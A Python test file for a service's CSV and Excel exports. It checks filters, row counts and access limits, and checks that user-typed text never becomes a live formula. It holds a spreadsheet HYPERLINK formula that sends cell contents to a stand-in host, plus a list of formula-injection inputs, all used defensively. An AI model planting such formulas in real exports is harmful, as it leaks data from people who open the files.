"""Lists as files: with the filters they are shown with, only what one may see, and nothing that a program runs."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from openpyxl import load_workbook

from service.queries import spreadsheet
from tests import rows
from tests.commands.conftest import Office
from tests.web.conftest import Browser

Open = Callable[..., Browser]
FORMULA = '=HYPERLINK("http://example.org/?"&A1)'


@pytest.fixture
def desk(office: Office) -> Office:
    """A desk with more tasks than one page of an export, and one whose title somebody meant for a spreadsheet."""
    people = office.people
    with office.database.transaction() as session:
        people.session = session
        of = rows.definition(session, people.authority().id, "demo", name="示例流程")
        group = [(people.organisation("coop"), "coop.intake")]
        for number in range(205):
            title = FORMULA if number == 7 else f"海洋{number}" if number % 2 else f"高原{number}"
            rows.task(session, rows.instance(session, of, title=title), groups=group, name="审查")
        people.session = None
    return office


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_whole_list_is_exported_with_its_filters(desk: Office, browser: Open) -> None:
    li = browser("li")
    answer = li.get("/export/inbox.csv?box=group")
    assert answer.headers["Content-Type"].startswith("text/csv")
    assert "guohe-inbox-" in answer.headers["Content-Disposition"]
    assert answer.data.startswith(b"\xef\xbb\xbf"), "spreadsheet programs take it for UTF-8"
    lines = read(answer.data)
    assert lines[0][:3] == ["事项", "案号", "案件"]
    assert len(lines) == 206
    assert len({line[1] for line in lines}) == 206, "no line twice, none left out"
    narrowed = read(li.get("/export/inbox.csv?box=group&q=高原").data)
    assert len(narrowed) == 104
    assert all("高原" in line[2] for line in narrowed[1:])
    assert "/export/inbox.csv?box=group&amp;q=" in li.get("/inbox?box=group&q=高原").text


def test_a_workbook_says_the_same(desk: Office, browser: Open) -> None:
    li = browser("li")
    book = load_workbook(io.BytesIO(li.get("/export/inbox.xlsx?box=group&q=海洋").data))
    sheet = book["收件箱"]
    assert [cell.value for cell in sheet[1]][:3] == ["事项", "案号", "案件"]
    assert sheet.max_row == 102
    assert sheet.freeze_panes == "A2"


def test_nothing_that_somebody_typed_becomes_a_formula(desk: Office, browser: Open) -> None:
    li = browser("li")
    (line,) = [one for one in read(li.get("/export/cases.csv").data) if "HYPERLINK" in one[1]]
    assert line[1] == f"'{FORMULA}"
    book = load_workbook(io.BytesIO(li.get("/export/cases.xlsx").data))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert f"'{FORMULA}" in [cell.value for cell in cells]


@pytest.mark.parametrize("typed", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"])
def test_every_beginning_of_a_formula_is_made_harmless(typed: str) -> None:
    assert spreadsheet.harmless(typed) == f"'{typed}"
    assert next(iter(spreadsheet.csv_lines([[typed]]))).lstrip("\ufeff").lstrip('"').startswith("'")
    file = io.BytesIO()
    spreadsheet.workbook([["head"], [typed + "\x07"]], file, title="a/b")
    assert load_workbook(file).active["A2"].data_type == "s"


def test_an_export_shows_nobody_more_than_the_list_does(desk: Office, browser: Open) -> None:
    assert len(read(browser("wang").get("/export/inbox.csv?box=group").data)) == 1
    assert len(read(browser("wang").get("/export/cases.csv").data)) == 1
    li = browser("li")
    assert li.get("/export/users.csv").status_code == 404
    assert li.get("/export/inbox.exe").status_code == 404
    assert li.get("/export/inbox.csv?box=nonsense").status_code == 404
    assert read(li.get("/export/register.csv").data)[0][0] == "编号"
